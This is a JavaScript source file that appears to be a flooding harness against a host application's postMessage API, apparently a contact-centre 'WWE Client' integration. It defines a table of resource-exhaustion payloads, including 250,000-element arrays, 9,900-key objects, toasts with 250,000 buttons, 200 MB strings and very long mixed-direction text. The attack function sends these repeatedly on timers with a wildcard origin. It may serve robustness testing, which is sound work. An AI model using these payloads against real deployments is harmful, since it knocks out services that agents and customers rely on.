// Messages that are dear to whoever reads, keeps or draws them; and a way to send them again and again.
const many = (count, make) => Array.from({ length: count }, make);
const mixed = (times) => "\u05d0 a ".repeat(times); // text of both directions: dear to lay out
const envelope = (name, ...parameters) => ({
  request: name, parameters, referenceId: "attack", userAgent: "WWE Client", protocolVersion: 2,
});
const keys = (call) => envelope("interaction.setUserData", call, Object.fromEntries(many(9900, (_, i) => [`k${i}`, "v"])));

// Every so many milliseconds so many messages; `make` gets the id of a call.
const ATTACKS = {
  "250,000 empty arrays": { every: 125, make: () => many(250000, () => []) },
  "9,900 keys": { every: 125, make: keys },
  "three of 9,900 keys": { every: 1000, times: 3, make: keys },
  "a toast of 250,000 buttons": {
    every: 1000,
    make: () => envelope("system.popupToast", { title: "t", message: "m", buttons: many(250000, (_, i) => `b${i}`) }),
  },
  "500 readings of much data": { every: 1000, times: 500, make: () => envelope("interaction.getInteractions") },
  "toasts of both directions": {
    every: 250, make: () => envelope("system.popupToast", { title: mixed(125), message: mixed(1250) }),
  },
  "a toast beyond its cap": { every: 250, make: () => envelope("system.popupToast", { message: mixed(220000) }) },
  "labels of both directions": {
    every: 250,
    make: () => envelope("system.updateViewInApplicationMenuBar", { name: "view", label: mixed(125), tooltip: mixed(250) }),
  },
  "a label beyond its cap": {
    every: 250, make: () => envelope("system.updateViewInApplicationMenuBar", { name: "view", label: mixed(220000) }),
  },
  "numbers of both directions": { every: 250, make: () => envelope("voice.dial", mixed(220000)) },
  "attached data of both directions": {
    every: 250, make: (call) => envelope("interaction.setUserData", call, { Shown: mixed(12000), [mixed(50)]: mixed(1000) }),
  },
  "eight texts of 200 MB": { every: 10000, times: 8, make: () => "x".repeat(200e6) },
  "matrices that write themselves": { every: 125, make: () => new Array(100000).fill(new DOMMatrix()) },
};

let attacking = 0;

/** Sends to the host, or to this very window, until `stop`. */
function attack(name, call, toHost) {
  const { every, times = 1, make } = ATTACKS[name];
  const message = make(call);
  const target = toHost ? host : window;
  const strike = () => {
    for (let n = 0; n < times; n += 1) {
      target.postMessage(message, "*");
    }
  };
  strike();
  attacking = setInterval(strike, every);
}

function stop() {
  clearInterval(attacking);
}

window.addEventListener("message", () => { received.length = 0; }); // what comes back is not kept
